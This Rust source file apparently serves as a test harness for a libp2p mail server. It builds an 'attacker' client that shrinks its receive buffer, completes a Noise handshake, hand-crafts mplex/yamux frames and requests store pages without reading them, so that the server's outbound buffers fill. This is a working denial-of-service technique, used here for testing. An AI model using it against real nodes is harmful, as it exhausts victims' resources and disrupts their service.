//! An attacker's side of a connection: what comes after Noise is written by hand, and read only if it likes.

use std::{io, net::SocketAddr};

use futures::{AsyncReadExt as _, AsyncWriteExt as _};
use libp2p::{core::upgrade::OutboundConnectionUpgrade, identity, noise, tcp::tokio::TcpStream};
use pillarbox_mailserver::protocols::store::wire::{STORE, StoreQueryRequest};
use prost::Message;
use tokio::net::TcpSocket;

/// What the kernel takes in for somebody who does not read: little, so that the victim's socket is soon full.
const UNREAD_BYTES: u32 = 4096;
const MULTISTREAM: &str = "/multistream/1.0.0";
#[derive(Clone, Copy, Debug)]
pub(crate) enum Muxer {
    Mplex,
    Yamux,
}

impl Muxer {
    fn protocol(self) -> &'static str {
        match self {
            Self::Mplex => "/mplex/6.7.0",
            Self::Yamux => "/yamux/1.0.0",
        }
    }

    /// The most that one frame may carry: by mplex's specification, and a stream's window of yamux.
    pub(crate) fn frame_bytes(self) -> usize {
        match self {
            Self::Mplex => 1 << 20,
            Self::Yamux => 256 << 10,
        }
    }

    /// Opens the `number`th stream with its first bytes.
    pub(crate) fn open(self, number: u32, data: &[u8]) -> Vec<u8> {
        match self {
            Self::Mplex => {
                let mut frames = varint(u64::from(number) << 3);
                frames.push(0);
                frames.extend(self.data(number, data));
                frames
            }
            Self::Yamux => yamux(0, 1, number, data.len(), data),
        }
    }

    pub(crate) fn data(self, number: u32, data: &[u8]) -> Vec<u8> {
        match self {
            Self::Mplex => {
                let mut frame = varint(u64::from(number) << 3 | 2);
                frame.extend(varint(data.len() as u64));
                frame.extend(data);
                frame
            }
            Self::Yamux => yamux(0, 0, number, data.len(), data),
        }
    }

    /// Allows the victim to send 16 MiB on a stream; mplex allows it always.
    pub(crate) fn allow(self, number: u32) -> Vec<u8> {
        match self {
            Self::Mplex => Vec::new(),
            Self::Yamux => yamux(1, 0, number, 16 << 20, &[]),
        }
    }
}

fn yamux(kind: u8, flags: u16, number: u32, length: usize, data: &[u8]) -> Vec<u8> {
    let mut frame = vec![0, kind];
    frame.extend(flags.to_be_bytes());
    // Who dials has the odd numbers.
    frame.extend((number * 2 + 1).to_be_bytes());
    frame.extend(u32::try_from(length).unwrap().to_be_bytes());
    frame.extend(data);
    frame
}

pub(crate) fn varint(number: u64) -> Vec<u8> {
    let mut buffer = unsigned_varint::encode::u64_buffer();
    unsigned_varint::encode::u64(number, &mut buffer).to_vec()
}

fn lines(names: &[&str]) -> Vec<u8> {
    let line = |name: &&str| [varint(name.len() as u64 + 1), name.as_bytes().to_vec(), b"\n".to_vec()].concat();
    names.iter().flat_map(line).collect()
}

/// What begins a stream of `protocol`: its negotiation, without waiting for the answer.
pub(crate) fn negotiation(protocol: &str) -> Vec<u8> {
    lines(&[MULTISTREAM, protocol])
}

/// Asks for a page of envelopes with their payloads.
pub(crate) fn page() -> Vec<u8> {
    let request = StoreQueryRequest {
        request_id: Some("page".into()),
        include_data: true,
        pagination_limit: Some(100),
        ..Default::default()
    }
    .encode_to_vec();
    [negotiation(STORE.as_ref()), varint(request.len() as u64), request].concat()
}

pub(crate) struct Attacker {
    pipe: noise::Output<TcpStream>,
}

impl Attacker {
    pub(crate) async fn connect(victim: SocketAddr, muxer: Muxer) -> io::Result<Self> {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(UNREAD_BYTES)?;
        let mut stream = TcpStream(socket.connect(victim).await?);
        select(&mut stream, "/noise").await?;
        let keypair = identity::Keypair::generate_secp256k1();
        let noise = noise::Config::new(&keypair).unwrap();
        let (_, mut pipe) = noise
            .upgrade_outbound(stream, "/noise")
            .await
            .map_err(io::Error::other)?;
        select(&mut pipe, muxer.protocol()).await?;
        Ok(Self { pipe })
    }

    pub(crate) async fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.pipe.write_all(bytes).await?;
        self.pipe.flush().await
    }
}

async fn select<S>(stream: &mut S, protocol: &str) -> io::Result<()>
where
    S: futures::AsyncRead + futures::AsyncWrite + Unpin,
{
    let offer = lines(&[MULTISTREAM, protocol]);
    stream.write_all(&offer).await?;
    stream.flush().await?;
    let mut answer = vec![0; offer.len()];
    stream.read_exact(&mut answer).await?;
    assert_eq!(answer, offer, "{protocol} is spoken");
    Ok(())
}
